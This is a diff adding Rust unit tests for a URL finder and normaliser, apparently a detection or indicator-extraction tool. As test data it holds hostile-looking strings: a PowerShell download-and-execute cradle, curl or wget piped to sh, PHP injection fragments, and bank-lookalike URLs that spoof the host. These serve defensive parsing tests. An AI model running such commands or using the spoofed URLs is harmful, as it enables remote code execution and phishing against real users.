@@ -1,0 +1,237 @@
+//! Where URLs end, and in which form each is told.
+
+use super::*;
+
+#[test]
+fn urls_end_where_people_say_they_end() {
+    let text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1'); see https://x.example/a(b)?q=1, ftp://y.example. \
+                file://z http:// ://";
+    let found: Vec<_> = all(text).collect();
+    assert_eq!(
+        found,
+        [
+            "http://203.0.113.66/a.ps1",
+            "https://x.example/a(b)?q=1",
+            "ftp://y.example",
+            "http://"
+        ]
+    );
+}
+
+#[test]
+fn an_apostrophe_before_the_host_ends_no_url() {
+    let host = |text: &str| all(text).next().and_then(Url::read).map(|url| url.host);
+    let to = "203.0.113.66".parse::<IpAddr>().unwrap();
+    for written in [
+        "http://www.bank.example'.x@203.0.113.66/a",
+        "http://www.bank.example'@203.0.113.66/a",
+        "http://www.bank.example',$x@203.0.113.66",
+        "http://www.bank.example'--a'b@c'@203.0.113.66?x",
+        "curl 'http://www.bank.example'.x@203.0.113.66/a",
+        "curl 'http://www.bank.example''x@203.0.113.66/a'",
+    ] {
+        assert_eq!(host(written), Some(Host::Ip(to)), "{written}");
+    }
+    for written in [
+        "http%3A%2F%2Fwww.bank.example'.x%40203.0.113.66%2Fa",
+        "http%253a%252f%252fa.example'@203.0.113.66",
+    ] {
+        let found = escaped(written);
+        assert_eq!(Url::read(&found[0]).unwrap().host, Host::Ip(to), "{written}");
+    }
+    assert_eq!(
+        places("ldap://www.bank.example'.x@203.0.113.66/a").next(),
+        Some(Host::Ip(to))
+    );
+    // Where the host is none, what stands before it is none either.
+    assert_eq!(Url::read("http://www.bank.example'.x@a_b!/c"), None);
+    // An `@` behind the path, or in another text, stands before no host.
+    for (written, expected) in [
+        ("http://evil.example/b'-@203.0.113.66", "evil.example"),
+        ("http://evil.example' x@203.0.113.66", "evil.example"),
+        ("fetch('http://evil.example','x@203.0.113.66')", "evil.example"),
+        ("iex('http://evil.example'.Replace('x','@'))", "evil.example"),
+        ("http://evil.example'?x@203.0.113.66", "evil.example"),
+    ] {
+        assert_eq!(host(written), Some(Host::Name(expected.to_owned())), "{written}");
+    }
+}
+
+#[test]
+fn an_apostrophe_ends_a_url_only_where_one_began_it_or_nothing_follows() {
+    for (text, expected) in [
+        ("/a?x=http://evil.example/b'c", "http://evil.example/b'c"),
+        ("http://evil.example/it's/d'%41'", "http://evil.example/it's/d'%41"),
+        ("fetch('http://evil.example/b'c)", "http://evil.example/b"),
+        ("wget http://evil.example/b' | sh", "http://evil.example/b"),
+        ("'x http://evil.example/b'+'c'", "http://evil.example/b"),
+        ("('http://evil.example/b','c')", "http://evil.example/b"),
+        ("/a?x=http://evil.example/shell.txt'--", "http://evil.example/shell.txt"),
+        (
+            "/a?x=http://evil.example/shell.txt'/**/or",
+            "http://evil.example/shell.txt",
+        ),
+        (
+            "iex ('curl http://evil.example/a.exe'.Replace('x','y'))",
+            "http://evil.example/a.exe",
+        ),
+        ("sh -c 'it''s; curl http://evil.example/a'_b", "http://evil.example/a"),
+        ("it's here: http://evil.example/b'c", "http://evil.example/b'c"),
+        (
+            "users' files: http://evil.example/O'Neil/payload.exe",
+            "http://evil.example/O'Neil/payload.exe",
+        ),
+        (
+            "echo O'; wget http://evil.example/O'Neil.exe",
+            "http://evil.example/O'Neil.exe",
+        ),
+        (
+            r"echo 'it'\''s'; curl http://evil.example/x'y",
+            "http://evil.example/x'y",
+        ),
+        (
+            r"copy 'C:\x\' y; curl http://evil.example/x'y",
+            "http://evil.example/x'y",
+        ),
+        (r"x = 'it\'s http://evil.example/a'_b", "http://evil.example/a"),
+        (
+            "/?x=http://evil.example/a.txt'.system('id')",
+            "http://evil.example/a.txt",
+        ),
+        ("/?x=http://evil.example/a.txt'.$_GET[c].'", "http://evil.example/a.txt"),
+        ("/?x=http://evil.example/a.txt'.@system(x)", "http://evil.example/a.txt"),
+        ("/?x=http://evil.example/a.txt'.PHP_EOL.'", "http://evil.example/a.txt"),
+        (
+            "/?x=http://evil.example/a.txt'.print`id`.'",
+            "http://evil.example/a.txt",
+        ),
+        ("/?x=http://evil.example/a.txt'.'x", "http://evil.example/a.txt"),
+        ("curl http://evil.example/o'... | sh", "http://evil.example/o"),
+        (
+            "exec $'a\\n' \"b\" x='c' http://evil.example/x'y",
+            "http://evil.example/x'y",
+        ),
+    ] {
+        assert_eq!(all(text).collect::<Vec<_>>(), [expected], "{text}");
+    }
+    assert_eq!(
+        escaped("x=http%3A%2F%2Fevil.example%2Fb'c&y=1 http%3A%2F%2Fevil.example%2Fd%27e"),
+        ["http://evil.example/b'c", "http://evil.example/d'e"]
+    );
+}
+
+#[test]
+fn urls_inside_of_urls_count_too_and_so_does_what_stands_behind_an_unknown_scheme() {
+    for (text, expected) in [
+        (
+            "https://a.example/?to=http://b.example/x.",
+            &["https://a.example/?to=http://b.example/x", "http://b.example/x"][..],
+        ),
+        (
+            "http://a.example/x,http://b.example/y",
+            &["http://a.example/x,http://b.example/y", "http://b.example/y"],
+        ),
+        ("php://filter/resource=http://b.example/x", &["http://b.example/x"]),
+        ("file:///c:/a;http://b.example/x", &["http://b.example/x"]),
+    ] {
+        assert_eq!(all(text).collect::<Vec<_>>(), expected, "{text}");
+    }
+    assert_eq!(all(&"http://".repeat(1_000)).count(), 1 + MAX_INSIDE);
+}
+
+#[test]
+fn one_url_has_one_form_however_it_is_written() {
+    for (form, spellings) in [
+        (
+            "http://evil.example/a",
+            &[
+                "http://evil.example/a",
+                "HTTP://Evil.Example/a",
+                "hxxp://evil.example/a",
+                "http://evil.example:80/a",
+                "http://evil.example:/a",
+                "http://evil.example./a",
+                "http://%65vil.example/%61",
+            ][..],
+        ),
+        (
+            "https://evil.example/",
+            &["https://evil.example", "https://EVIL.example:443/"],
+        ),
+        ("https://evil.example/?a=1", &["https://evil.example?a=1"]),
+        ("http://evil.example:443/", &["http://evil.example:443"]),
+        ("http://evil.example/%2F%3A", &["http://evil.example/%2f%3a"]),
+        (
+            "http://203.0.113.10/x",
+            &[
+                "http://203.0.113.10/x",
+                "http://3405803786/x",
+                "http://0xCB00710A/x",
+                "http://0313.0.0161.012/x",
+                "http://203.28938/x",
+                "http://[::ffff:203.0.113.10]/x",
+            ],
+        ),
+        (
+            "http://[2001:db8::1]:8080/x",
+            &["http://[2001:db8:0:0:0:0:0:1]:8080/x", "http://[2001:DB8::0001]:8080/x"],
+        ),
+        (
+            "http://evil.example/b%27c",
+            &["http://evil.example/b'c", "http://evil.example/b%27c"],
+        ),
+        ("http://u:p@evil.example/", &["http://u:p@evil.example"]),
+        ("http://u;x@evil.example/", &["http://u;x@evil.example/"]),
+        (
+            "http://evil.example/",
+            &[
+                "http://evil.example;id",
+                "http://evil.example,x/y",
+                "http://evil.example'x",
+                "http://evil.example).Content",
+                "http://evil.example;a@b",
+            ],
+        ),
+        (
+            "http://xn--bcher-kva.example/",
+            &["http://b\u{fc}cher.example/", "http://xn--bcher-kva.example"],
+        ),
+    ] {
+        for spelling in spellings {
+            assert_eq!(
+                Url::read(spelling).map(|url| url.text).as_deref(),
+                Some(form),
+                "{spelling}"
+            );
+        }
+        assert_eq!(Url::read(form).unwrap().text, form, "one form is its own form");
+    }
+    for none in [
+        "http://",
+        "http:///x",
+        "http://host/x",
+        "http://a.pdf/x",
+        "http://evil.example:port/",
+        "file://evil.example/x",
+        "http://[::1",
+    ] {
+        assert_eq!(Url::read(none), None, "{none}");
+    }
+}
+
+#[test]
+fn urls_inside_of_urls_are_found() {
+    assert_eq!(
+        escaped(
+            "/?u=http%3A%2F%2Fevil.example%2Fa%20b&v=HTTPS%253a%252F%252Fx.example%252F&w=ftp:%2f%2fy.example 100% %3A%2F%2F"
+        ),
+        ["http://evil.example/a", "HTTPS://x.example/", "ftp://y.example"]
+    );
+}
+
+#[test]
+fn what_was_disarmed_is_armed_again() {
+    assert_eq!(armed("hxxp[:]//evil[.]example/x"), "hxxp://evil.example/x");
+    assert_eq!(armed("203[.]0(.)113{.}9 a[AT]b[dot]example"), "203.0.113.9 a@b.example");
+    assert!(matches!(armed("f(x) [a] {b}"), Cow::Borrowed("f(x) [a] {b}")));
+}
